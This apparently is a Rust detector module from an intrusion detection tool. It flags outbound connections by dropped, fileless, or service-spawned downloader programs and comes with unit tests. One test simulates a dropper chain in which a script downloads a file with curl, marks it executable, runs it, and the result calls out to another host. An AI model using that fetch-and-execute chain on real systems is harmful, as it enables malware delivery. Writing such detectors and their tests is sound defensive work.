//! N9: a connection by a program that has no reason to open one: the program was dropped and run, has no file, or
//! downloads for a shell that a service started.
//!
//! The signal proves one step of the chain: the suspect reached another host. It says nothing about the content.

use super::established;
use crate::{
    detect::{Declaration, DetectionContext, Finding, SignalInfo, SignalKind, Stateless},
    model::{EventType, SignalClass},
    process::Taint,
};

/// The signal. Its ten points put a dropped program that connects to another host (25 + 10 + 10) on record, and no
/// more.
pub const SUSPECT_CONNECTION: SignalInfo = SignalInfo {
    id: "N9",
    class: SignalClass::Network,
    weight: 10,
    full_weight: 10,
    kind: SignalKind::Step,
    name: "Outbound connection by a suspect program",
    description: "A program that was dropped and run, that runs from memory, or that fetches for a service's shell opened a connection to another host.",
    catches: "A dropped or fileless program that calls out, on any port.",
    techniques: &["T1071"],
};

/// The declaration of the detector.
pub(in crate::detect) static DETECTOR: Declaration = Declaration {
    signals: &[SUSPECT_CONNECTION],
    wants: &[EventType::Connect],
    evictions: None,
    create: |_| Box::new(Stateless(inspect)),
};

fn inspect(context: &DetectionContext<'_>) -> Option<Finding> {
    let who = match context.process.taint? {
        Taint::Dropped => "a program that was dropped here",
        Taint::Fileless => "a program without a file",
        Taint::FetchesForService => "a downloader that a service's shell started",
    };
    let destination = established(&context.event.body)?;
    let detail = format!("{who}, '{}', connected to {destination}", context.process.view.name);
    Some(Finding::new(SUSPECT_CONNECTION, context, detail).value("destination", destination))
}

#[cfg(test)]
mod tests {
    use crate::testing::{Host, findings};

    #[test]
    fn a_dropped_program_connects() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let script = host.spawn(init, "/usr/bin/dash", &["sh", "/root/x.sh"]);
        let curl = host.spawn(script, "/usr/bin/curl", &["curl", "-o", "/tmp/x", "http://10.0.0.1/x"]);
        host.connect(curl, "10.0.0.1:80");
        host.create(curl, "/tmp/x", 0o644);
        host.chmod(script, "/tmp/x", 0o755);
        let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
        let child = host.fork(dropped);
        host.connect(child, "10.0.0.9:443");
        assert_eq!(findings(&host), [("B2", 25), ("N9", 10)]);
    }

    #[test]
    fn a_program_that_it_starts_is_no_suspect() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let script = host.spawn(init, "/usr/bin/dash", &["sh", "/root/x.sh"]);
        host.create(script, "/tmp/x", 0o755);
        let dropped = host.spawn(script, "/tmp/x", &["/tmp/x"]);
        let git = host.spawn(dropped, "/usr/bin/git", &["git", "fetch"]);
        host.connect(git, "10.0.0.9:443");
        assert_eq!(findings(&host), [("B2", 25)]);
    }

    #[test]
    fn the_same_connection_by_others_is_no_finding() {
        let mut host = Host::new();
        let init = host.boot("/sbin/init", &["init"]);
        let curl = host.spawn(init, "/usr/bin/curl", &["curl", "http://10.0.0.1/x"]);
        host.connect(curl, "10.0.0.1:80");
        assert!(findings(&host).is_empty());
    }
}
